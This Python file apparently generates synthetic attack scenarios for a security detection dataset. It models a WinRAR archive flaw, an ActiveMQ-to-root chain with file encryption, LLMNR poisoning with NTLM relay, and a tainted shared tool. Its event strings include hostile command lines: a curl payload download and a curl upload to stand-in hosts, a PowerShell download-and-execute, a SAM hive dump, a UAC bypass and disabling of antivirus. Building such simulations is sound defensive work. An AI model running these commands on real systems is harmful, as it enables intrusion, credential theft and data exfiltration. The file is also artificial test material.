"""Intruders whose way depends on what the inside of an estate allows."""
from kit.acts import encoded

from . import estate
from .steps import beacon, h, m, s, send, ssh, stage


@estate("archive-flaw",
        "An archive that uses a flaw of its viewer; silent elevation; a subscription of WMI; antivirus passive")
def archive(e):
    desks = e.people(25)
    dc, fs = e.servers("dc", "file")
    pc, near = desks[9], desks[14]
    pc.av_mode = "1"
    pc.software.append(("rarlab", "winrar", "6.22"))
    for d in (near, desks[2]): d.software.append(("rarlab", "winrar", "7.01"))
    desks[2].cves.pop("CVE-2023-38831", None)
    near.cves.pop("CVE-2023-38831", None)
    t = e.at(e.workday(12), "08:27")
    o = e.base(pc, "OUTLOOK.EXE")
    f = e.file(pc, t - m(1), "FileCreated", f"C:\\Users\\{pc.user}\\Downloads\\Trading_rules.zip", o,
               content="archive tr", size=61000)
    w = e.run(pc, t, "C:\\Program Files\\WinRAR\\WinRAR.exe",
              f'"WinRAR.exe" "C:\\Users\\{pc.user}\\Downloads\\Trading_rules.zip"')
    c = e.run(pc, t + s(14), "cmd.exe",
              f'cmd.exe /c ""C:\\Users\\{pc.user}\\AppData\\Local\\Temp\\Rar$DIa71.8\\Rules.pdf .cmd" "', w)
    g = e.file(pc, t + s(16), "FileCreated", f"C:\\Users\\{pc.user}\\AppData\\Local\\Temp\\ms.exe", c,
               content="dark loader")
    p = e.run(pc, t + s(18), g["FolderPath"], "ms.exe", c, content="dark loader")
    e.entry(pc, t + s(14), ["T1566.001", "T1203", "T1204.002"], "phishing", [f, w, c])
    e.cause(pc, "T1203 T1204.002 T1566.001", "CVE-2023-38831", "would-have-blocked",
            "the viewer starts what it should only show; this version has the flaw", rows=[w, c])
    x = e.run(near, t + m(6), "C:\\Program Files\\WinRAR\\WinRAR.exe", '"WinRAR.exe" "Trading_rules.zip"')
    d = e.detection(near, t + m(6) + s(20), f"C:\\Users\\{near.user}\\AppData\\Local\\Temp\\ms.exe",
                    "Trojan:Win32/Dark.A", True,
                    x, content="dark loader")
    e.held(near, "T1204.002", "scid-2010", t + m(6) + s(20),
           "active antivirus removed the same file; the viewer was newer", [x, d])
    e.cause(pc, "T1204.002 T1059.003", "av.mode", "would-have-blocked",
            "antivirus passive; on another desk the same file was removed", same=("scid-2010",), rows=[g, d])
    beacon(e, pc, t + m(1), p, "203.0.113.180", "fx-rates.example.net", 10, 5200)
    r = e.registry(pc, t + m(20),
                   f"HKEY_CURRENT_USER\\{e.sid(pc.user, e.org)}\\Software\\Classes\\ms-settings\\Shell\\Open\\command",
                   "DelegateExecute", "", p)
    fo = e.run(pc, t + m(20) + s(3), "fodhelper.exe", "C:\\Windows\\System32\\fodhelper.exe", p)
    q = e.run(pc, t + m(20) + s(5), "cmd.exe", f'cmd.exe /c {g["FolderPath"]} -e', fo, level="High")
    e.cause(pc, "T1548.002", "cfg.uac_prompt", "would-have-blocked", "administrators are not always asked", rows=[r,
        fo, q])
    b = e.event(pc, t + m(26), "WmiBindEventFilterToConsumer", q, {
        "Consumer": 'CommandLineEventConsumer.Name="Upd"', "ESS": "Upd", "Namespace": "//./ROOT/Subscription"})
    a = e.event(pc, t + m(26) + s(1), "AsrPersistenceThroughWmiAudited", q,
                {"RuleId": "e6db77e5-3df2-4cf1-b95a-636979351e5b"})
    e.harm(pc, t + m(26), "T1546.003", "persistence-added", "subscription Upd", [b])
    e.cause(pc, "T1546.003", "scid-2514", "would-have-blocked", "the rule audited this binding", rows=[a, b],
            audit=True)
    e.decoy(fs, "scid-2514", "off, never reached")
    e.decoy(desks[20], "CVE-2023-38831", "open, the archive did not come here")
    e.missing |= {"AlertInfo", "AlertEvidence"}


@estate("broker-to-root",
        "A message broker without its fix; root by a local flaw; protection off; a Linux share encrypted")
def broker(e):
    e.people(10)
    e.servers("dc")
    mq = e.device("MQ01", "linux", "5.31", "app", facing=True)
    nas = e.device("NFS01", "linux", "5.32", "file")
    e.device("MQ02", "linux", "5.33", "app").cves["CVE-2023-46604"] = None
    mq.software.append(("apache", "activemq", "5.15.3"))
    jv = e.base(mq, "java", user="activemq", path="/usr/lib/jvm/java-11/bin/java",
                command="/usr/lib/jvm/java-11/bin/java -jar activemq.jar")
    t, ip = e.at(17, "05:03"), "203.0.113.29"
    n = e.net(mq, t, jv, ip, 61616, action="InboundConnectionAccepted")
    o = e.net(mq, t + s(2), jv, ip, 8000)
    sh = e.run(mq, t + s(4), "/usr/bin/bash",
               f"bash -c curl -s -o /tmp/poc.elf http://{ip}:8000/poc.elf; chmod +x /tmp/poc.elf", jv)
    e.entry(mq, t, ["T1190"], "exploit-public-app", [n, o, sh])
    e.cause(mq, "T1190", "CVE-2023-46604", "would-have-blocked",
            "open and reached; the broker fetches a file and starts a shell",
            same=("net.exposed",), rows=[n, o, sh])
    f = e.file(mq, t + s(7), "FileCreated", "/tmp/poc.elf", sh, content="poc elf")
    px = e.run(mq, t + m(9), "/tmp/.pk/pwn", "/tmp/.pk/pwn", sh, content="pwnkit")
    pk = e.run(mq, t + m(9) + s(1), "/usr/bin/pkexec", "pkexec", px)
    rt = e.run(mq, t + m(9) + s(2), "/bin/sh", "/bin/sh", pk, user="root")
    e.cause(mq, "T1068", "CVE-2021-4034", "would-have-blocked", "pkexec without its fix gives a shell of root",
            rows=[px, pk, rt])
    md = e.run(mq, t + m(14), "/usr/bin/mdatp", "mdatp config real-time-protection --value disabled", rt)
    e.harm(mq, t + m(14), "T1562.001", "protection-disabled", "real-time protection", [md])
    e.tamper(mq, "scid-6090", t + m(14))
    e.cause(mq, "T1562.001", "scid-6092", "would-have-blocked", "tamper protection for Linux was off before", rows=[md])
    c = e.file(mq, t + m(17), "FileCreated", "/etc/systemd/system/rsysd.service", rt, size=310)
    e.harm(mq, t + m(17), "T1543.002", "persistence-added", "service rsysd", [c])
    k = t + h(21)
    q = ssh(e, mq, nas, k, "root", rt, "/root/.ssh/id_rsa")
    lk = e.run(nas, k + m(2), "/tmp/enc", "/tmp/enc --path /export --ext .hellok", q, content="hello enc")
    rows = [e.file(nas, k + m(2) + s(1 + i / 3), "FileRenamed", f"/export/projects/d{i % 4}/plan{i:03}.dwg.hellok", lk,
                   PreviousFileName=f"plan{i:03}.dwg") for i in range(45)]
    rows.append(e.file(nas, k + m(2) + s(2), "FileCreated", "/export/READ_HELLO.txt", lk, size=900))
    e.harm(nas, k + m(2), "T1486", "files-encrypted", "45 files seen, ending .hellok", [lk, rows[:2], rows[-1]])
    e.decoy(mq, "CVE-2024-1086", "open, not used: the way up was another")
    e.decoy(nas, "scid-6092", "off; nothing was switched off here")
    e.missing |= {"DeviceImageLoadEvents", "AlertInfo", "AlertEvidence"}
    e.late = 0.03


@estate("poisoned-names",
        "A strange notebook in the meeting room answers for names; a logon is passed on to the file server")
def names(e):
    desks = e.people(18)
    dc, fs, app = e.servers("dc", "file", "app")
    e.admin()
    bad = e.device("RPI-MEET", "linux", "20.213", "unknown", agent=False, listed=False)
    pc = desks[12]
    t = e.at(e.workday(13), "10:51")
    a = e.net(pc, t - s(4), e.base(pc, "svchost.exe", user="network service"), "224.0.0.252", 5355, "fileservr",
              local=5355)
    b = e.net(pc, t, e.base(pc, "System", user="system", path="System", command="System"), bad.ip, 445, "fileservr")
    c = e.logon(fs, t + s(3), pc.user, "Network", ("rpi-meet", bad.ip), protocol="NTLM", admin=True)
    e.entry(bad, t - s(4), ["T1557.001", "T1200"], "other", [a, b, c])
    e.cause(pc, "T1557.001", "cfg.llmnr_off", "would-have-blocked", "the desk asks everybody for names", rows=[a, b])
    e.cause(fs, "T1557.001", "scid-111", "would-have-blocked",
            "the server takes a logon that is passed on, without signatures",
            same=("scid-109",), rows=[c])
    e.move(bad, fs, t + s(3), "T1021.002", "a logon passed on", [b, c])
    sv = e.event(fs, t + s(9), "ServiceInstalled", e.base(fs, "services.exe"), {"ServiceName": "kWbDqY",
        "ServiceAccount": "LocalSystem"},
                 FileName="cmd.exe", FolderPath="C:\\Windows\\System32\\cmd.exe")
    sh = e.run(fs, t + s(9), "cmd.exe", "%COMSPEC% /C reg save HKLM\\SAM C:\\Windows\\Temp\\__o1", e.base(fs,
        "services.exe"))
    rg = e.run(fs, t + s(10), "reg.exe", "reg save HKLM\\SAM C:\\Windows\\Temp\\__o1", sh)
    f = e.file(fs, t + s(11), "FileCreated", "C:\\Windows\\Temp\\__o1", rg, size=65536)
    e.harm(fs, t + s(9), "T1003.002", "credentials-stolen", "hashes of local accounts", [sh, rg, f])
    e.cause(fs, "T1003.002", "scid-84", "would-have-limited", "no managed local password", rows=[rg])
    k = t + m(40)
    x = e.logon(app, k, "administrator", "Network", ("rpi-meet", bad.ip), ok=False, protocol="NTLM",
                domain=app.name.lower())
    e.held(app, "T1550.002", "scid-84", k, "another local password here", [x])
    for n in (4, 9):  # what is ordinary: desks that ask for printers
        e.net(desks[n], e.at(n, "11:00"), e.base(desks[n], "svchost.exe", user="network service"), "224.0.0.252", 5355,
              "printer3", local=5355)
    e.decoy(desks[1], "cfg.llmnr_off", "missing, nobody answered it")
    e.decoy(dc, "scid-111", "off, never reached")


@estate("tainted-share", "A smuggled archive; a tool on a share that everybody may change carries it on to two desks")
def tainted(e):
    desks = e.people(22)
    dc, fs, app = e.servers("dc", "file", "app")
    pc, one, two = desks[3], desks[8], desks[16]
    t = e.at(e.workday(11), "15:33")
    b = e.run(pc, t - m(2), "msedge.exe", f'"msedge.exe" "C:\\Users\\{pc.user}\\Downloads\\Protocol.html"', e.base(pc,
        "OUTLOOK.EXE"))
    f = e.file(pc, t - m(1), "FileCreated", f"C:\\Users\\{pc.user}\\Downloads\\Protocol.7z", b, content="smuggled 7z",
               FileOriginUrl="blob:null")
    z = e.run(pc, t - s(20), "C:\\Program Files\\7-Zip\\7zFM.exe",
              f'"7zFM.exe" "C:\\Users\\{pc.user}\\Downloads\\Protocol.7z"')
    w = e.run(pc, t, "wscript.exe", f'"wscript.exe" "C:\\Users\\{pc.user}\\AppData\\Local\\Temp\\7zO44\\Protocol.js"',
              z)
    e.entry(pc, t, ["T1566.001", "T1027.006", "T1204.002", "T1059.007"], "phishing", [b, f, z, w])
    e.cause(pc, "T1553.005 T1204.002", "CVE-2025-0411", "would-have-blocked",
            "the archiver drops the mark of the web, so that nothing asks", rows=[z, w])
    ps = e.run(pc, t + s(9), "powershell.exe",
               f"powershell -nop -enc {encoded('$k=[char]105+[char]101+[char]120;&$k(irm fx.example.org/m)')}", w)
    a = e.event(pc, t + s(9), "AsrObfuscatedScriptAudited", w, {"RuleId": "5beb7efe-fd9a-4556-801d-275e5ffc04cc"},
                FileName="Protocol.js", FolderPath=f"C:\\Users\\{pc.user}\\AppData\\Local\\Temp\\7zO44\\Protocol.js")
    e.cause(pc, "T1027 T1059.001", "scid-2505", "would-have-blocked", "the rule audited this very script", rows=[a,
        ps], audit=True)
    beacon(e, pc, t + m(1), ps, "203.0.113.214", "fx.example.org", 12, 5000)
    tool = f"\\\\{fs.fqdn()}\\tools\\LabelPrint.exe"
    k = t + h(24)
    x = e.file(pc, k, "FileModified", tool, ps, content="label tainted", size=920_000)
    e.file(fs, k + s(1), "FileModified", "D:\\Shares\\tools\\LabelPrint.exe", None, content="label tainted",
           size=920_000,
           RequestAccountName=pc.user, RequestSourceIP=pc.address(k), ShareName="tools")
    e.note(fs, "T1080")
    e.cause(fs, "T1080", "scid-4001", "would-have-blocked", "everybody may write to this share", rows=[x])
    for n in range(2, 11): e.run(desks[16], e.at(n, "07:40"), tool, "LabelPrint.exe", content="label good")
    for i, d in enumerate((one, two)):
        y = k + h(17) + m(35 * i)
        p = e.run(d, y, tool, "LabelPrint.exe", content="label tainted")
        e.move(pc, d, y, "T1080", "a changed tool on the common share", [x, p])
        q = e.run(d, y + s(4), "powershell.exe", "powershell -nop -w 1 -c irm fx.example.org/m2|iex", p)
        beacon(e, d, y + m(1), q, "203.0.113.214", "fx.example.org", 8, 5000)
    kl = e.event(two, y + m(9), "GetAsyncKeyStateApiCall", q)
    z = stage(e, two, y + m(50), q, f"C:\\Users\\{two.user}\\AppData\\Local\\Temp\\k.cab", "makecab.exe k.txt k.cab")
    send(e, two, y + m(52), q, "curl.exe -s -F f=@k.cab https://fx.example.org/u", "203.0.113.214", "fx.example.org",
         "T1041")
    e.decoy(app, "scid-4001", "a share of the same kind; nobody touched it")
    e.decoy(desks[10], "CVE-2025-0411", "open, the mail did not come here")
    e.missing |= {"AlertInfo", "AlertEvidence", "DeviceImageLoadEvents"}


@estate("page-blocked", "A page for passwords that the network protection kept away from six desks")
def page(e):
    desks = e.people(29)
    e.servers("dc", "file", "app")
    e.admin()
    t = e.at(e.workday(12), "11:20")
    for i, d in enumerate(desks[3:27:4]):
        k = t + m(4 * i)
        d.off.discard("scid-96")
        b = e.run(d, k, "chrome.exe", '"chrome.exe" -- "https://signin-office.example.net/"', e.base(d, "OUTLOOK.EXE"))
        n = e.event(d, k + s(2), "ExploitGuardNetworkProtectionBlocked", b, {"ResponseCategory": "Phishing",
            "DisplayName":
                    "signin-office.example.net"}, RemoteUrl="signin-office.example.net", RemoteIP="203.0.113.47",
                    RemotePort=443)
        e.held(d, "T1566.002", "scid-96", k + s(2), "the connection was not made", [b, n])
    e.verdict = "prevented"
    e.decoy(desks[0], "scid-96", "off; the mail did not come here")
    e.alert(desks[3], t, "Phishing page blocked", "InitialAccess", "Informational", ["T1566.002"])


@estate("quiet-supplier-visits", "A plant whose supplier comes in by his own tool every Wednesday, as agreed")
def visits(e):
    from .plants import works
    desks, jump, ews, hmi, hist, plcs = works(e, 4)
    tv = "C:\\Program Files\\TeamViewer\\TeamViewer_Service.exe"
    svc = e.base(ews, "TeamViewer_Service.exe", user="system", path=tv)
    tool = e.base(ews, "Portal.exe", user="eng1",
                  path="C:\\Program Files\\Siemens\\Automation\\Portal V17\\bin\\Portal.exe")
    for n in range(2, e.days - 1):
        if (e.start + h(24 * n)).weekday() != 2: continue
        t = e.at(n, "13:00")
        e.net(ews, t, svc, "192.0.2.240", 5938, "router.teamviewer.example")
        e.sense(t + s(4), "REMOTE_ACCESS", f"TeamViewer connection from 192.0.2.240 to {ews.ip}.")
        p = plcs[n % 4]
        e.speak(t + m(8), ews, p, tool)
        r = e.sense(t + m(9), "PROGRAM_UPLOAD_DEVICE", f"Host {ews.ip} read the program of controller {p.ip}.")
        if n > 9: e.benign(p, t + m(9), "ot-data-collected", "the supplier's agreed Wednesday", [r])
    e.decoy(ews, "ot.remote_access", "the supplier's tool leads past the jump host, but only he used it")
    return ("helpdesk",)
